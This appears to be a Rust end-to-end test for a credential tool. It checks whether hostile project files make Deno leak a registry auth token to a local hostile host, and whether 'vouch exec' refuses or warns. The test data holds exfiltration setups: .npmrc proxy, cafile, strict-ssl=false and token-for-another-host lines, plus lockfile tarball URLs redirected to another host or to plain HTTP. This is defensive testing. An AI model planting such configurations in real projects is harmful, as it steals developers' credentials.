//! What a project can make Deno do with the token that npm's lines in `.npmrc` have. `docs/untrusted-projects.md` has the table
//! that is compared here, cell by cell.

use std::cell::RefCell;

use vouch_e2e::doc_tables::Table;
use vouch_e2e::hostile::HostileHost;
use vouch_e2e::node::{self, Client, REGISTRY};
use vouch_e2e::{CommandOutput, Run, Sandbox, in_sandbox};

const DENO: Client = Client("deno");
const NPM: Client = Client("npm-11");
/// Otherwise it takes no package that is younger than a day.
const ANY_AGE: &str = "--minimum-dependency-age=0";
const HEADING: &str = "Deno 2.9";

struct Attack<'a> {
    sandbox: &'a Sandbox,
    /// As a proxy, and as a host of its own; and on the port of plain HTTP.
    hosts: [HostileHost; 2],
    table: Table,
    /// Where the page is not right.
    wrong: RefCell<Vec<String>>,
}

impl Attack<'_> {
    fn run(&self, args: &[&str]) -> Run {
        // The sandbox's authority is known by its variable.
        let run = DENO.run(self.sandbox, args).within(self.sandbox.file("app"));
        let authority = std::env::var("SSL_CERT_FILE").unwrap();
        run.env("DENO_CERT", authority).env("DENO_NO_UPDATE_CHECK", "1")
    }

    /// A new project with these files, in a home that has nothing in its caches.
    fn project(&self, files: &[(&str, &str)]) {
        node::fresh_project(self.sandbox, DENO, "app");
        for (name, text) in files {
            self.sandbox.write(&format!("app/{name}"), text);
        }
    }

    /// Compares what arrived with the page, and that `vouch exec` refuses where it says so.
    fn compare(&self, what: &str, args: &[&str], done: &CommandOutput) {
        let [hostile, plain] = &self.hosts;
        let heads = [hostile.arrived(), plain.arrived()].concat();
        let sent = heads.iter().any(|head| HostileHost::has_token(head));
        let is_so = match self.table.cell(what, "Deno") {
            "sent" => sent,
            "held" => !sent && (!heads.is_empty() || done.code != 0),
            "not read" => heads.is_empty() && done.code == 0,
            _ => false,
        };
        let exec = ["exec", "--type", "codeartifact", "--", "deno"];
        let exec = DENO.prepared(self.sandbox, "vouch").args(exec).args(args);
        let exec = exec.within(self.sandbox.file("app")).done();
        let is_refused = exec.code == 125 && exec.stderr.contains("would give the token away");
        let is_told = match self.table.cell(what, "`vouch exec`") {
            "refuses" => is_refused,
            "warns" => exec.code != 125 && exec.stderr.contains("warning: "),
            _ => exec.code != 125 && !exec.stderr.contains("warning: "),
        };
        if !is_so || !is_told {
            self.wrong.borrow_mut().push(format!("{what}: {heads:?}\n{done}\n{exec}"));
        }
        for host in &self.hosts {
            let _ = host.arrived();
        }
    }

    fn adds_left(&self, what: &str, files: &[(&str, &str)]) {
        self.project(files);
        let args = ["add", ANY_AGE, "npm:left"];
        let token = self.sandbox.vouch(&["credential", "codeartifact"]).ok().stdout;
        let done = self.run(&args).env("CODEARTIFACT_AUTH_TOKEN", token.trim()).done();
        self.compare(what, &args, &done);
    }
}

#[test]
fn what_a_project_can_have_deno_do() {
    in_sandbox(&[], |sandbox| {
        sandbox.enroll();
        sandbox.log_in();
        let _ = NPM.set_up(sandbox, &[]).ok();
        node::publish_three(sandbox, NPM);
        let hosts = [HostileHost::start(), HostileHost::start_plain()];
        let attack = Attack {
            sandbox,
            hosts,
            table: Table::of("untrusted-projects.md", HEADING),
            wrong: RefCell::default(),
        };
        let http = REGISTRY.replace("https://", "http://");
        let (proxy, port) = (attack.hosts[0].url(), attack.hosts[0].port());

        // It works at all.
        attack.project(&[]);
        let _ = attack.run(&["add", ANY_AGE, "npm:left"]).ok();
        let lock = sandbox.read("app/deno.lock");
        assert!(lock.contains("left@1.0.0"), "{lock}");

        attack.adds_left(
            "`.npmrc` names your registry over plain HTTP",
            &[(".npmrc", &format!("registry={http}\n"))],
        );
        attack.adds_left(
            "`.npmrc` has `strict-ssl=false` and a proxy",
            &[(".npmrc", &format!("https-proxy={proxy}\nproxy={proxy}\nstrict-ssl=false\n"))],
        );
        sandbox.write("evil.pem", attack.hosts[0].certificate());
        attack.adds_left(
            "`.npmrc` has `cafile` and a proxy",
            &[(
                ".npmrc",
                &format!(
                    "https-proxy={proxy}\nproxy={proxy}\ncafile={}\n",
                    sandbox.file("evil.pem").display()
                ),
            )],
        );
        attack.adds_left(
            "`.npmrc` has `${CODEARTIFACT_AUTH_TOKEN}` for another host",
            &[(
                ".npmrc",
                &format!("registry={proxy}/\n//127.0.0.1:{port}/:_authToken=${{CODEARTIFACT_AUTH_TOKEN}}\n"),
            )],
        );
        // A lock that names where the package is.
        for (what, place) in [
            ("`deno.lock` names another host", format!("{proxy}/")),
            ("`deno.lock` names your registry over plain HTTP", http.clone()),
        ] {
            let tarball = format!("\"left@1.0.0\": {{ \"tarball\": \"{place}left/-/left-1.0.0.tgz\",");
            let evil = lock.replace("\"left@1.0.0\": {", &tarball);
            assert_ne!(evil, lock, "{lock}");
            let manifest = "{\"imports\": {\"left\": \"npm:left@1.0.0\"}}";
            attack.project(&[("deno.json", manifest), ("deno.lock", &evil)]);
            let args = ["install", ANY_AGE];
            let done = attack.run(&args).done();
            attack.compare(what, &args, &done);
        }
        let manifest = format!(
            "{{\"name\": \"app\", \"version\": \"1.0.0\", \"dependencies\": {{\"left\": \"{http}left/-/left-1.0.0.tgz\"}}}}"
        );
        attack.project(&[("package.json", &manifest)]);
        let done = attack.run(&["install", ANY_AGE]).done();
        attack.compare(
            "a dependency in `package.json` is a URL of your registry over plain HTTP",
            &["install", ANY_AGE],
            &done,
        );
        let wrong = attack.wrong.take();
        assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
    });
}
